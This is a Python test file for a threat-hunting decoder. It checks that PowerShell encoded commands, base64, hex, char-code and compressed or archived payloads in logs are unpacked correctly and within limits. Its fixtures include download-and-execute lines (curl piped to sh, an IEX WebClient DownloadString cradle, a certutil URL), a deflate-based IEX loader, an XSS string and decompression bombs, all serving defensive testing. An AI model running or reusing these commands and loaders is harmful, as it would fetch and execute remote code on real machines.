"""hb.decode: layered decoding of base64 / hex / URL / char codes / compression / archives."""

from __future__ import annotations

import base64
import bz2
import csv
import gzip
import io
import json
import lzma
import re
import tarfile
import tracemalloc
import zipfile
import zlib
from pathlib import Path
from urllib.parse import quote

import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from huntbook import decode
from huntbook.errors import DataError


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def utf16(text: str) -> str:
    return b64(text.encode("utf-16-le"))


def texts(frame: pd.DataFrame) -> list[str]:
    return [t for t in frame["text"].tolist() if isinstance(t, str)]


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return bio.getvalue()


def tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return bio.getvalue()


# --------------------------------------------------------------------------------------------
# PowerShell -EncodedCommand
# --------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "flag",
    ["-e", "-E", "-ec", "-en", "-enc", "-EnC", "-enco", "-encodedc", "-EncodedCommand", "/enc", "\u2013enc"],
)
def test_every_abbreviation_of_encodedcommand_is_utf16le_base64(flag: str) -> None:
    script = "Get-Process | Stop-Process -Force"
    out = decode.unpack(f"powershell.exe -NoP {flag} {utf16(script)}")
    assert out[["layer", "encoding", "text", "status"]].values.tolist() == [
        [1, "base64-utf16le", script, "ok"]
    ]


def test_short_encodedcommand_argument_is_decoded() -> None:
    assert texts(decode.unpack("powershell -enc " + utf16("dir"))) == ["dir"]


def test_other_flags_starting_with_e_are_not_encodedcommand() -> None:
    out = decode.unpack(
        "powershell.exe -ExecutionPolicy Bypass -ep bypass -File C:\\Scripts\\inventory12.ps1"
    )
    assert out.empty


def test_truncated_encodedcommand_is_reported_without_text() -> None:
    blob = utf16("IEX (New-Object Net.WebClient).DownloadString('http://example.org/a.ps1')")
    cut = blob[:61]  # not a multiple of 4: PowerShell rejects it
    out = decode.unpack(f"powershell.exe -enc {cut}")
    assert out["status"].tolist() == ["truncated"]
    assert out["text"].isna().all()


# --------------------------------------------------------------------------------------------
# the encodings
# --------------------------------------------------------------------------------------------
def test_base64_utf8_and_utf16_and_urlsafe_unpadded() -> None:
    plain = "curl -fsSL http://203.0.113.7/x.sh | sh"
    assert texts(decode.unpack(f"echo {b64(plain.encode())} | base64 -d | bash")) == [plain]
    assert decode.unpack(f"x {utf16(plain)} y")["encoding"].tolist() == ["base64-utf16le"]
    odd = "subjects?>>and ~~~ objects?? end"
    token = base64.urlsafe_b64encode(odd.encode()).decode().rstrip("=")
    assert "-" in token or "_" in token
    out = decode.unpack(f"token={token}")
    assert out[["encoding", "text"]].values.tolist() == [["base64url", odd]]


def test_hex_url_and_char_codes() -> None:
    url = "https://evil.example.net/stage2"
    assert texts(decode.unpack("certutil " + url.encode().hex())) == [url]
    assert decode.unpack("GET /a?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")["text"].tolist() == [
        "/a?q=<script>alert(1)</script>"
    ]
    word = "IEX whoami"
    codes = [ord(c) for c in word]
    assert texts(decode.unpack("+".join(f"[char]{c}" for c in codes))) == [word]
    assert texts(decode.unpack("+".join(f"[CHAR]0x{c:x}" for c in codes))) == [word]
    assert texts(decode.unpack(f"eval(String.fromCharCode({','.join(map(str, codes))}))")) == [word]
    assert texts(decode.unpack(f"-join ({','.join(map(str, codes))}|%{{[char]$_}})")) == [word]
    assert decode.unpack("SELECT 1,2,3,4,5,6 FROM t").empty  # numbers without a char-code context


def test_compressed_loaders_gzip_zlib_deflate_bzip2_xz() -> None:
    script = "Write-Host 'stage two is here'; Start-Sleep 5"
    raw = script.encode()
    deflated = zlib.compress(raw, 9)[2:-4]
    loader = (
        "IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
        f"[Convert]::FromBase64String('{b64(deflated)}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"
    )
    out = decode.unpack("powershell -enc " + utf16(loader))
    assert out["chain"].tolist() == [
        "base64-utf16le",
        "base64-utf16le>base64",
        "base64-utf16le>base64>deflate",
    ]
    assert out["text"].iloc[-1] == script
    assert out["parent"].tolist() == [None, 0, 1] or out["parent"].isna().iloc[0]
    for blob, kind in (
        (gzip.compress(raw), "gzip"),
        (zlib.compress(raw), "zlib"),
        (bz2.compress(raw), "bzip2"),
        (lzma.compress(raw), "xz"),
    ):
        frame = decode.unpack(f"data {b64(blob)}")
        assert frame["encoding"].tolist() == ["base64", kind], kind
        assert frame["content"].iloc[0] == kind
        assert frame["text"].iloc[-1] == script


def test_zip_and_tar_members_are_layers_of_their_own() -> None:
    archive = zip_bytes([("a.ps1", b"Write-Output 'first member'"), ("b/c.txt", b"second member text")])
    out = decode.unpack(b64(archive))
    assert out["encoding"].tolist() == ["base64", "zip:a.ps1", "zip:b/c.txt"]
    assert out["parent"].tolist()[1:] == [0, 0]
    assert texts(out) == ["Write-Output 'first member'", "second member text"]
    tarred = tar_bytes([("x.sh", b"echo tar member one")])
    out = decode.unpack(b64(gzip.compress(tarred)))
    assert out["encoding"].tolist() == ["base64", "gzip", "tar:x.sh"]
    assert out["text"].iloc[-1] == "echo tar member one"


def test_nested_layers_record_the_chain() -> None:
    inner = "three layers deep, really"
    value = f"run {b64(b64(utf16(inner).encode()).encode())} now"
    out = decode.unpack(value)
    assert out["layer"].tolist() == [1, 2, 3]
    assert out["chain"].iloc[-1] == "base64>base64>base64-utf16le"
    assert out["text"].iloc[-1] == inner
    assert decode.decoded_text(value) == f"run {inner} now"


def test_wrapped_base64_over_lines() -> None:
    text = "a wrapped payload line that goes on " * 4
    blob = b64(text.encode())
    wrapped = "\n".join(blob[i : i + 64] for i in range(0, len(blob), 64))
    assert texts(decode.unpack(f"-----BEGIN-----\n{wrapped}\n-----END-----")) == [text]


# --------------------------------------------------------------------------------------------
# no false decodes
# --------------------------------------------------------------------------------------------
JUNK = [
    "(Get-FileHash setup.exe).Hash -eq 'D41D8CD98F00B204E9800998ECF8427E'",
    "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "sha256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
    "explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
    "C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportArchive\\AppCrash_svchost.exe_"
    "3f0a9c7d2b1e4f5a6b7c8d9e0f1a2b3c4d5e6f7a_1a2b3c4d\\Report.wer",
    "agent.exe --token Zk9vYmFyQmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3Bx1 --verbose",
    "Write-Host 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA====='",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -ExecutionPolicy Bypass",
    "Set-MpPreference -DisableRealtimeMonitoring $false; Test-NetConnection -ComputerName srv01",
    "net use \\\\fileserver01\\share %%1936 %SystemRoot%\\system32",
]


@pytest.mark.parametrize("line", JUNK)
def test_junk_that_looks_encoded_decodes_to_nothing(line: str) -> None:
    out = decode.unpack(line)
    assert texts(out) == [], out.to_dict("records")


def test_random_hashes_never_decode() -> None:
    import hashlib

    lines = []
    for i in range(3000):
        h = hashlib.sha256(str(i).encode()).hexdigest()
        lines += [h, h.upper(), h[:32], h[:40].upper()]
    assert decode.unpack(lines).empty


# --------------------------------------------------------------------------------------------
# inputs
# --------------------------------------------------------------------------------------------
def test_input_shapes_and_row_labels() -> None:
    enc = "powershell -enc " + utf16("whoami /all")
    series = pd.Series(["cmd /c dir", None, enc, float("nan")], index=[10, 11, 12, 13])
    assert decode.unpack(series)["row"].tolist() == [12]
    assert decode.unpack(["cmd", enc])["row"].tolist() == [1]
    assert decode.unpack(enc)["row"].tolist() == [0]
    frame = pd.DataFrame({"CommandLine": series.tolist(), "Other": 1}, index=list("abcd"))
    assert decode.unpack(frame, column="CommandLine")["row"].tolist() == ["c"]
    assert decode.unpack([])["row"].tolist() == []
    assert list(decode.unpack([]).columns) == decode.COLUMNS


def test_missing_column_names_it() -> None:
    frame = pd.DataFrame({"CommandLine": ["x"]})
    with pytest.raises(DataError, match="ProcessCommandLine") as info:
        decode.unpack(frame, column="ProcessCommandLine")
    assert info.value.where == "ProcessCommandLine"
    with pytest.raises(DataError, match="column"):
        decode.unpack(frame)
    twice = pd.DataFrame([["a", "b"]], columns=["CommandLine", "CommandLine"])
    with pytest.raises(DataError, match="not unique"):
        decode.unpack(twice, column="CommandLine")


def test_bad_values_get_per_row_results_never_a_crash() -> None:
    enc = "powershell -enc " + utf16("whoami")
    values = pd.Series(
        [
            b"\xff\xfe\x00\xd8broken utf-16",  # lone surrogate
            b"\xc3\x28 invalid utf-8 \x80\x81",
            gzip.compress(b"bytes holding a gzip stream of text"),
            12345,
            enc,
            "A" * 2_000_000 + " " + enc,  # a 2 MB field
        ],
        dtype=object,
    )
    out = decode.unpack(values)
    assert sorted(set(out["row"])) == [2, 4, 5]
    assert out.loc[out["row"] == 2, "text"].tolist() == ["bytes holding a gzip stream of text"]
    assert out.loc[out["row"] == 5, "text"].tolist() == ["whoami"]


def test_input_frame_is_not_mutated() -> None:
    frame = pd.DataFrame({"CommandLine": ["powershell -enc " + utf16("whoami"), "dir"]})
    before = frame.copy(deep=True)
    decode.unpack(frame, column="CommandLine")
    decode.add_decoded(frame, "CommandLine")
    pd.testing.assert_frame_equal(frame, before)


def test_char_array_cast_and_bytes_input() -> None:
    codes = ",".join(str(ord(c)) for c in "Start-Process calc")
    assert texts(decode.unpack(f"[string]::new([char[]]({codes}))")) == ["Start-Process calc"]
    out = decode.unpack([zlib.compress(b"zlib bytes in a column"), zlib.compress(b"raw deflate bytes")[2:-4]])
    assert out[["row", "encoding", "text"]].values.tolist() == [
        [0, "zlib", "zlib bytes in a column"],
        [1, "deflate", "raw deflate bytes"],
    ]
    assert decode.decoded_text(gzip.compress(b"gzip bytes")) == "gzip bytes"


def test_add_decoded_and_decoded_text() -> None:
    truncated = (
        "powershell -enc " + utf16("IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')")[:41]
    )
    frame = pd.DataFrame(
        {"CommandLine": ["powershell -enc " + utf16("whoami /all"), "cmd /c dir", None, truncated]}
    )
    out = decode.add_decoded(frame, "CommandLine")
    assert out["decoded"].tolist() == ["powershell -enc whoami /all", None, None, None]
    assert decode.decoded_text("nothing to see") == "nothing to see"


def test_limits_are_checked() -> None:
    for bad in (
        {"max_depth": 0},
        {"max_depth": 1000},
        {"max_output": 0},
        {"max_ratio": 0.5},
        {"min_length": 2},
    ):
        with pytest.raises(DataError):
            decode.unpack("x", **bad)


# --------------------------------------------------------------------------------------------
# bounds: depth, ratio, size, members
# --------------------------------------------------------------------------------------------
def test_depth_limit_marks_the_last_layer() -> None:
    value = "seed text for the depth test"
    for _ in range(5):
        value = b64(value.encode())
    out = decode.unpack(value, max_depth=3)
    assert out["layer"].tolist() == [1, 2, 3]
    assert out["status"].tolist() == ["ok", "ok", "depth_limit"]


def _gzip_zeros(total: int, member: int = 1 << 20) -> bytes:
    one = gzip.compress(bytes(member), 9)
    return one * (total // member)  # a multi-member gzip file


def test_one_gigabyte_gzip_bomb_is_bounded() -> None:
    bomb = _gzip_zeros(1 << 30)
    tracemalloc.start()
    out = decode.unpack("x " + b64(bomb) + " y", max_output=5_000_000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert out["status"].tolist() == ["ok", "size_limit"]
    assert out["size"].sum() == 5_000_000  # every layer of the value counts against max_output
    assert peak < 80_000_000  # the input (1 MB + base64) plus the 5 MB cap, with slack


def test_single_stream_bomb_stops_at_the_ratio() -> None:
    blob = zlib.compress(bytes(20_000_000), 9)
    out = decode.unpack(b64(blob), max_ratio=50)
    assert out["status"].tolist() == ["ok", "ratio_limit"]
    assert out["size"].iloc[-1] == 50 * len(blob)


def test_nested_zip_bomb_is_bounded() -> None:
    layer = zip_bytes([("zeros.bin", bytes(20 << 20))])
    for level in range(6):
        layer = zip_bytes([(f"l{level}_{k}.zip", layer) for k in range(10)])
    tracemalloc.start()
    out = decode.unpack(layer, max_output=2_000_000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert out["layer"].max() <= 6
    assert out["size"].sum() <= 2_000_000 + len(layer)
    assert {"depth_limit", "size_limit"} & set(out["status"])
    assert peak < 100_000_000


def test_zip_with_thousands_of_members() -> None:
    archive = zip_bytes([(f"f{k}.txt", b"member number %d here" % k) for k in range(5000)])
    out = decode.unpack(archive, max_members=100)
    members = out[out["encoding"].str.startswith("zip:")]
    assert len(members) == 100
    assert "member_limit" in set(out["status"])


def test_corrupt_gzip_keeps_status() -> None:
    blob = gzip.compress(b"some text that will be cut " * 50)
    out = decode.unpack(b64(blob[: len(blob) // 2]))
    assert out["encoding"].tolist() == ["base64", "gzip"]
    assert out["status"].iloc[-1] in ("truncated", "corrupt")


# --------------------------------------------------------------------------------------------
# law: decode(encode(x, chain)) == x
# --------------------------------------------------------------------------------------------
ENCODERS = {
    "base64": lambda s: b64(s.encode()),
    "base64-utf16le": lambda s: utf16(s),
    "base64url-unpadded": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
    "base64-unpadded": lambda s: b64(s.encode()).rstrip("="),
    "hex": lambda s: s.encode().hex(),
    "gzip": lambda s: b64(gzip.compress(s.encode())),
    "zlib": lambda s: b64(zlib.compress(s.encode())),
    "deflate": lambda s: b64(zlib.compress(s.encode())[2:-4]),
    "url": lambda s: quote(s, safe=""),
}
WORDS = st.text(
    alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,:;!?'()$",
    min_size=1,
    max_size=9,
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    words=st.lists(WORDS, min_size=3, max_size=12),
    chain=st.lists(st.sampled_from(sorted(ENCODERS)), min_size=1, max_size=4),
)
def test_decode_inverts_any_chain_of_encodings(words: list[str], chain: list[str]) -> None:
    text = " ".join(words)
    assume(len(text) >= 12 and len(set(text)) >= 6)
    encoded = text
    for name in chain:
        encoded = ENCODERS[name](encoded)
        assume(len(encoded) >= 16 or name == "url")  # the documented min_length of a free-standing run
    assert decode.decoded_text(encoded, max_depth=12) == text  # a compression step is two layers
    layers = decode.unpack(["plain line", encoded], max_depth=12)  # through the vectorised pre-filter
    assert layers["text"].iloc[-1] == text and set(layers["row"]) == {1}


# --------------------------------------------------------------------------------------------
# real attack data (../shared/data), checked against an independent stdlib decode
# --------------------------------------------------------------------------------------------
ENC_ARG = re.compile(r"-enc(?:odedcommand)?\s+([A-Za-z0-9+/=]+)", re.IGNORECASE)


def test_mordor_empire_launchers(shared_data: Path) -> None:
    path = (
        shared_data
        / "mordor-security-datasets/datasets/atomic/windows/discovery/host/empire_shell_net_local_users.zip"
    )
    if not path.exists():
        pytest.skip(f"{path} not present")
    with zipfile.ZipFile(path) as archive:
        records = [json.loads(line) for line in archive.open(archive.namelist()[0])]
    lines = [r["Message"] for r in records if isinstance(r.get("Message"), str) and " -enc " in r["Message"]]
    assert len(lines) > 50
    expected = [base64.b64decode(ENC_ARG.search(line).group(1)).decode("utf-16-le") for line in lines]  # type: ignore[union-attr]
    out = decode.unpack(lines)
    first = out[out["layer"] == 1].groupby("row")["text"].first()
    assert first.tolist() == expected
    assert all(e.upper().startswith("IF($PSVERSIONTABLE") for e in expected)  # Empire's stager, as documented


def test_msticpy_process_events_encoded_command(shared_data: Path) -> None:
    path = shared_data / "msticpy-testdata/testdata/processes_on_host.csv"
    if not path.exists():
        pytest.skip(f"{path} not present")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    frame = pd.DataFrame(rows)
    hits = frame[frame["CommandLine"].str.contains(" -enc ", regex=False)]
    assert len(hits) >= 1
    out = decode.unpack(frame, column="CommandLine")
    for label, line in hits["CommandLine"].items():
        expected = base64.b64decode(ENC_ARG.search(line).group(1)).decode("utf-16-le")  # type: ignore[union-attr]
        got = out[(out["row"] == label) & (out["layer"] == 1)]["text"].tolist()
        assert got == [expected]


def test_evtx_meterpreter_gzip_loader(shared_data: Path) -> None:
    from evtx import PyEvtxParser

    path = shared_data / "evtx-attack-samples/Lateral Movement/LM_sysmon_psexec_smb_meterpreter.evtx"
    if not path.exists():
        pytest.skip(f"{path} not present")
    details = []
    for record in PyEvtxParser(str(path)).records_json():
        data = json.loads(record["data"])["Event"].get("EventData") or {}
        value = data.get("Details") or data.get("CommandLine") or ""
        if "H4sI" in value:
            details.append(value)
    assert details
    for value in details:
        blob = re.search(r"H4sI[A-Za-z0-9+/=]+", value).group()  # type: ignore[union-attr]
        expected = gzip.decompress(base64.b64decode(blob)).decode("utf-8")
        out = decode.unpack(value)
        assert expected in texts(out)
        assert out.loc[out["text"] == expected, "chain"].iloc[0].endswith("base64>gzip")


def test_msticpy_base64msg_archives(shared_data: Path) -> None:
    path = shared_data / "msticpy-testdata/testdata/base64msg.txt"
    if not path.exists():
        pytest.skip(f"{path} not present")
    text = path.read_text()
    out = decode.unpack(text)
    # independent: the zip blob between 'zip file:' and 'And this' opened with the stdlib
    blob = re.search(r"zip file:([A-Za-z0-9+/=\s]+?)And this", text).group(1)  # type: ignore[union-attr]
    names = zipfile.ZipFile(io.BytesIO(base64.b64decode("".join(blob.split())))).namelist()
    assert {f"zip:{n}" for n in names} <= set(out["encoding"])
    assert any(e.startswith("tar:") for e in out["encoding"])
    assert "text\r\nfile\r\n".rstrip("\x00") in texts(out) or "text\r\nfile" in "".join(texts(out))


def test_evtx_edge_update_ping_is_base64url(shared_data: Path) -> None:
    from evtx import PyEvtxParser

    path = shared_data / "deepbluecli-evtx/evtx/sliver-security.evtx"
    if not path.exists():
        pytest.skip(f"{path} not present")
    lines = []
    for record in PyEvtxParser(str(path)).records_json():
        data = json.loads(record["data"])["Event"].get("EventData") or {}
        if "/ping " in (data.get("CommandLine") or ""):
            lines.append(data["CommandLine"])
    assert lines
    for line in lines:
        token = re.search(r"/ping ([A-Za-z0-9_-]+)", line).group(1)  # type: ignore[union-attr]
        expected = base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)).decode("utf-8")
        out = decode.unpack(line)
        assert out[["encoding", "text"]].values.tolist() == [["base64url", expected]]
        assert expected.startswith("<?xml")  # Omaha's update-check request


@settings(max_examples=300, deadline=None)
@given(
    value=st.one_of(
        st.text(max_size=300),
        st.binary(max_size=300),
        st.builds(lambda b: b64(b), st.binary(min_size=12, max_size=200)),
        st.builds(lambda b: "-enc " + b64(b)[: len(b64(b)) - 1], st.binary(min_size=12, max_size=100)),
    )
)
def test_any_input_gives_bounded_well_formed_layers(value: str | bytes) -> None:
    out = decode.unpack([value], max_depth=4, max_output=100_000)
    assert list(out.columns) == decode.COLUMNS
    assert set(out["status"]) <= set(decode.STATUSES)
    assert out["layer"].max() <= 4 if len(out) else True
    assert out["size"].sum() <= 100_000
    assert isinstance(decode.decoded_text(value), str)
